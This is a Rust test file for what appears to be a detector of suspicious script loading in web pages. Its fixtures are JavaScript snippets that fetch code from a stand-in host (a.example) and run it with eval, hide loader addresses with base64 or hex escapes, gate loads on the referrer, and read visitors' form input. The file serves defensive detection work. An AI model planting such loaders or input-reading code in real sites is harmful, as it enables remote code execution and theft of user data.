//! What code brings into the page, and on which way.

use super::super::{Condition, Load, Trigger};
use super::{read, shown};

fn loads(source: &str) -> Vec<(String, String)> {
    let loads = read(source).loads;
    loads.iter().map(|one| (one.element.clone(), shown(&one.target))).collect()
}

#[test]
fn scripts_in_markup_are_loaded_where_they_run() {
    let script = ("script".to_owned(), "https://a.example/x.js".to_owned());
    for source in [
        "document.write('<script src=\"https://a.example/x.js\"></script>')",
        "document.write(unescape('%3Cscript src=https://a.example/x.js%3E%3C/script%3E'))",
        "$('body').append('<script src=https://a.example/x.js></' + 'script>')",
        "$('<script src=https://a.example/x.js></script>').appendTo('head')",
        "$.ajax({ url: 'https://a.example/x.js', dataType: 'script' })",
    ] {
        assert_eq!(loads(source).as_slice(), std::slice::from_ref(&script), "{source}");
    }
    assert_eq!(
        loads("document.write('<script src=//a.example/x?' + t + '></script>')"),
        [("script".to_owned(), "//a.example/x?…".to_owned())]
    );
    // What is put into the page this way does not run.
    assert_eq!(loads("e.innerHTML = '<script src=https://a.example/x.js></script>'"), []);
}

#[test]
fn text_that_is_fetched_and_run_comes_from_where_it_was_fetched() {
    for source in [
        "fetch(U).then(r => r.text()).then(t => eval(t))",
        "fetch(U).then(r => r.text()).then(eval)",
        "(async () => { const r = await fetch(U); new Function(await r.text())() })()",
        "var x = new XMLHttpRequest(); x.open('GET', U); x.onload = function () { eval(x.responseText) }; x.send()",
        "var x = new XMLHttpRequest(); x.onreadystatechange = function () { if (x.readyState == 4) eval(this.responseText) }; x.open('GET', U)",
        "$.get(U, function (t) { eval(t) })",
        "$.ajax({ url: U, success: function (t) { eval(t) } })",
        "fetch(U).then(r => r.text()).then(t => { var s = document.createElement('script'); s.text = t; document.body.append(s) })",
        "function get(u, then) { var x = new XMLHttpRequest(); x.onload = () => then(x.response); x.open('GET', u) } get(U, function (t) { t && eval(t) })",
    ] {
        let found = loads(&source.replace('U', "'https://a.example/x'"));
        let eval = ("eval".to_owned(), "https://a.example/x".to_owned());
        assert_eq!(found, [eval], "{source}");
    }
    for source in [
        "fetch('https://a.example/x').then(r => r.json()).then(d => { show(d) })",
        "var x = new XMLHttpRequest(); x.open('GET', 'https://a.example/x'); x.onload = function () { d = eval('(' + x.responseText + ')') }",
        "fetch('/own').then(r => r.text()).then(eval)",
        "fetch('https://a.example/x'); eval(other)",
    ] {
        assert_eq!(loads(source), [], "{source}");
    }
}

#[test]
fn loads_say_when_and_on_what_they_depend_and_whether_their_host_is_readable() {
    let one = |source: &str| -> Load { read(source).loads.remove(0) };
    let made = |address: &str| {
        format!(
            "var s = document.createElement('script'); s.src = {address}; document.body.append(s)"
        )
    };
    let load = one(&format!("if (document.referrer) {{ {} }}", made("'https://a.example/'")));
    assert_eq!((load.conditions, load.disguised), (vec![Condition::Referrer], false));
    // What is told to the host is no condition.
    let load = one(&made("'https://a.example/?r=' + document.referrer"));
    assert_eq!(load.conditions, []);
    let load = one(&made("atob('aHR0cHM6Ly9hLmV4YW1wbGUv')"));
    assert_eq!((load.trigger, load.disguised), (Trigger::Load, true));
    for (source, disguised) in [
        (format!("var n = 'ab'; {}", made("'https://cdn.' + n + '.example/'")), false),
        (format!("var n = 'ab'; {}", made(r"'\x68ttps://cdn.' + n + '.example/'")), true),
        (format!("var n = 'x'; {}", made("'https://cd' + n + 'y.example/'")), true),
    ] {
        assert_eq!(one(&source).disguised, disguised, "{source}");
    }
    let load = one(&format!("onscroll = function () {{ {} }}", made("'//a.example/'")));
    assert_eq!(load.trigger, Trigger::Anywhere("scroll".into()));
}

#[test]
fn addresses_that_bring_their_code_along_are_read() {
    for source in [
        "var s = document.createElement('script'); s.src = 'data:text/javascript,location=\"https://a.example/\"'; document.body.append(s)",
        "import('data:text/javascript;base64,bG9jYXRpb249Imh0dHBzOi8vYS5leGFtcGxlLyI=')",
        "var s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['location=\"https://a.example/\"'])); document.body.append(s)",
        "var f = document.createElement('iframe'); f.srcdoc = '<script>top.location=\"https://a.example/\"</script>'; document.body.append(f)",
        "$('body').append('<script>location=\"https://a.example/\"</' + 'script>')",
    ] {
        assert_eq!(super::targets(source), ["https://a.example/"], "{source}");
    }
}

#[test]
fn what_visitors_type_is_noted() {
    for source in [
        "x = document.getElementById('mk').value",
        "document.querySelectorAll('input').forEach(i => s += i.value)",
        "$('#mk').val()",
        "$.post('/a', $('form').serialize())",
    ] {
        assert!(read(source).reads_typed, "{source}");
    }
    assert!(!read("document.getElementById('mk').value = ''; $('#a').val('b')").reads_typed);
}
